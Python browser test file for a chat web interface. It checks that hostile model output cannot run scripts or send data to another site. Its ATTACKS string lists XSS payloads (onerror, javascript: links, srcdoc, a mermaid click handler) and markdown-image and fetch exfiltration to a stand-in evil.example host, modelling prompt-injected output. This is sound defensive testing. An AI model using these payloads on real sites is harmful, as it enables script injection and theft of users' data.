"""The chat page in a real Chromium: keys, files, a model that is not ready, or writes what an attacker wants.

A text of a model may come from a web page or a file that it was given, and is hostile until it is shown.
"""

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import pytest
from aiohttp import web
from meshd.gateway.interface import ApiKey, GatewayConfig, Readiness
from meshd.gateway.pages import CHAT_FOLDER, load_page
from meshd.model.status import ModelState

from tests.e2e.browser import chromium, needs_chromium, tab
from tests.process.gateway_fake import DONE, Answer, FakeServer, World, begin_stream, chunk, last_chunk, world

if TYPE_CHECKING:
    from playwright.sync_api import FilePayload

pytestmark = [
    pytest.mark.timeout(300),
    needs_chromium,
    pytest.mark.skipif(not CHAT_FOLDER.exists(), reason="`make chat` has not built the page"),
]
KEY = "k-0123456789abcdef"
PROPS = {
    "default_generation_settings": {"params": {}, "n_ctx": 4096},
    "total_slots": 4,
    "model_path": "/home/anna/tiny.gguf",
    "modalities": {"vision": False, "audio": False, "video": False},
    "chat_template": "{{ messages }}",
    "build_info": "b1",
}
PDF = b"""%PDF-1.4
1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj
2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>> endobj
4 0 obj <</Length 45>> stream
BT /F 24 Tf 20 100 Td (words of a page) Tj ET
endstream endobj
5 0 obj <</Type/Font/Subtype/Type1/BaseFont/Helvetica>> endobj
trailer <</Root 1 0 R>>
"""  # without its table of places, which readers make for themselves
DOES = "top.document.title='taken'"
SENT = "url => fetch(url, {mode: 'no-cors', method: 'POST', body: '{}'}).then(() => 'sent', () => 'refused')"
SHOWN = """url => new Promise(done => {
    const image = new Image();
    image.onload = () => done('shown');
    image.onerror = () => done('refused');
    image.src = url;
})"""
ATTACKS = f"""
# <script>{DOES}</script>

<img src=x onerror="{DOES}"> <svg onload="{DOES}"></svg> <details open ontoggle="{DOES}">a</details>
<iframe srcdoc="<script>{DOES}</script>"></iframe> <a id=link href="javascript:{DOES}">here</a>
<style>@import url(EVIL/style)</style> <meta http-equiv=refresh content="0;url=EVIL/refresh">

![picture](EVIL/picture?said=secret) [there](javascript:{DOES}) $\\href{{javascript:{DOES}}}{{x}}$

```mermaid
graph TD
    A["<img src=x onerror={DOES}>"] --> B
    click A "javascript:{DOES}"
```

```html
<script>{DOES}; fetch('EVIL/fetch')</script><img src="EVIL/preview"><p>a page</p>
```

The end.
"""


@dataclass
class Listener:
    """Another site, which notes who asks it."""

    url: str = ""
    asked: list[str] = field(default_factory=list)

    async def handle(self, request: web.BaseRequest) -> web.Response:
        self.asked.append(request.path)
        return web.Response(text="", headers={"Access-Control-Allow-Origin": "*"})


@contextlib.asynccontextmanager
async def listening() -> AsyncIterator[Listener]:
    listener = Listener()
    runner = web.ServerRunner(web.Server(listener.handle), shutdown_timeout=0.1)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        listener.url = f"http://evil.example:{runner.addresses[0][1]}"
        yield listener
    finally:
        await runner.cleanup()


def writes(text: str) -> Answer:
    """Answer each chat with this text, in pieces."""

    async def answer(_server: FakeServer, request: web.BaseRequest) -> web.StreamResponse:
        if request.path == "/props":
            return web.json_response(PROPS)
        response = await begin_stream(request)
        for at in range(0, len(text), 40):
            await response.write(chunk(text[at : at + 40]))
        await response.write(last_chunk(9) + DONE)
        return response

    return answer


def look(
    text: str,
    see: Callable[[World, Listener], None],
    *,
    config: GatewayConfig | None = None,
    readiness: Readiness | None = None,
) -> list[str]:
    """Look, in a thread, at the page of a node whose model writes `text`; return what the other site saw."""

    async def scenario() -> list[str]:
        async with listening() as evil:
            answer = writes(text.replace("EVIL", evil.url))
            async with world(answer, page=load_page(), seconds=200, config=config) as here:
                here.upstream.readiness = readiness or here.upstream.readiness
                await asyncio.to_thread(see, here, evil)
            return evil.asked

    return asyncio.run(scenario())


def test_nothing_that_a_model_writes_runs_or_leaves_the_page() -> None:
    def see(here: World, _evil: Listener) -> None:
        with chromium() as browser, tab(browser) as opened:
            page = opened.page
            page.goto(here.url)
            page.get_by_role("textbox", name="Type a message").fill("hello")
            page.get_by_role("button", name="Send").click()
            page.get_by_text("The end.").wait_for()
            page.get_by_role("button", name="Preview diagram").wait_for()
            opened.keep("attacks")
            for link in page.locator("a[href^='javascript:']").all():  # the policy makes them do nothing
                link.click()
            page.get_by_role("button", name="Preview code").click()
            page.frame_locator("iframe").get_by_text("a page").wait_for()
            opened.keep("attacks-preview")
            assert page.title() != "taken"
            assert page.url.startswith(here.url)

    assert look(ATTACKS, see) == []


def test_what_would_let_it_out_is_refused_by_the_browser() -> None:
    def see(here: World, evil: Listener) -> None:
        with chromium() as browser, tab(browser) as opened:
            opened.page.goto(here.url)
            # a script that somehow runs in the page: the policy is what holds then
            assert opened.page.evaluate(SENT, f"{evil.url}/script") == "refused"
            assert opened.page.evaluate(SHOWN, f"{evil.url}/picture") == "refused"

    assert look("", see) == []


def test_another_site_can_neither_frame_the_page_nor_call_the_api() -> None:
    def see(here: World, evil: Listener) -> None:
        with chromium() as browser, tab(browser) as opened:
            page = opened.page
            page.goto(evil.url)
            page.evaluate(SENT, f"{here.url}/v1/chat/completions")  # it leaves, without permission to be read
            frame = (
                "url => { document.body.append(Object.assign(document.createElement('iframe'), {src: url})) }"
            )
            with page.expect_response(f"{here.url}/") as framed:
                page.evaluate(frame, here.url)
            assert framed.value.status == 403
            assert here.server.seen == []

    look("", see)


def test_a_key_is_asked_for_and_kept_by_the_browser() -> None:
    def see(here: World, _evil: Listener) -> None:
        with chromium() as browser, tab(browser) as opened:
            page = opened.page
            page.goto(here.url)
            page.get_by_role("button", name="Enter API Key").click()
            opened.keep("key")
            page.get_by_role("textbox").first.fill(KEY)
            page.keyboard.press("Enter")
            page.get_by_role("textbox", name="Type a message").fill("hello")
            page.get_by_role("button", name="Send").click()
            page.get_by_text("The end.").wait_for()

    look("The end.", see, config=GatewayConfig(port=0, api_keys=(ApiKey(KEY),)))


@pytest.mark.parametrize("size", [(1280, 800), (375, 667)])
def test_the_page_says_why_the_model_is_not_ready(size: tuple[int, int]) -> None:
    reason = "waiting for 1 worker: run `meshd worker --join INVITE` <b>there</b>"

    def see(here: World, _evil: Listener) -> None:
        with chromium() as browser, tab(browser, size=size) as opened:
            opened.page.goto(here.url)
            note = opened.page.get_by_role("status").filter(has_text=reason)
            note.wait_for()
            box = note.bounding_box()
            assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= size[0]
            opened.keep(f"not-ready-{size[0]}")
            here.upstream.readiness = Readiness(ModelState.READY, "")
            note.wait_for(state="hidden")
            box_of_text = opened.page.get_by_role("textbox", name="Type a message")
            box_of_text.fill("hello")
            opened.page.get_by_role("button", name="Send").click()
            opened.page.get_by_text("The end.").wait_for()

    look("The end.", see, readiness=Readiness(ModelState.WAITING, reason))


def test_files_become_parts_of_the_message() -> None:
    def see(here: World, _evil: Listener) -> None:
        with chromium() as browser, tab(browser) as opened:
            page = opened.page
            page.goto(here.url)
            page.get_by_role("textbox", name="Type a message").fill("look")
            note: FilePayload = {"name": "note.txt", "mimeType": "text/plain", "buffer": b"words of a note"}
            pdf: FilePayload = {"name": "page.pdf", "mimeType": "application/pdf", "buffer": PDF}
            page.locator("input[type=file]").first.set_input_files([note, pdf])
            page.get_by_text("page.pdf").first.wait_for()
            page.get_by_role("button", name="Send").click()
            page.get_by_text("The end.").wait_for()
            assert opened.errors == []
            [body] = [body for _, path, _, body in here.server.seen if path.endswith("/completions")]
            parts = " ".join(part["text"] for part in json.loads(body)["messages"][-1]["content"])
            assert "words of a note" in parts and "words of a page" in parts and "look" in parts

    look("The end.", see)
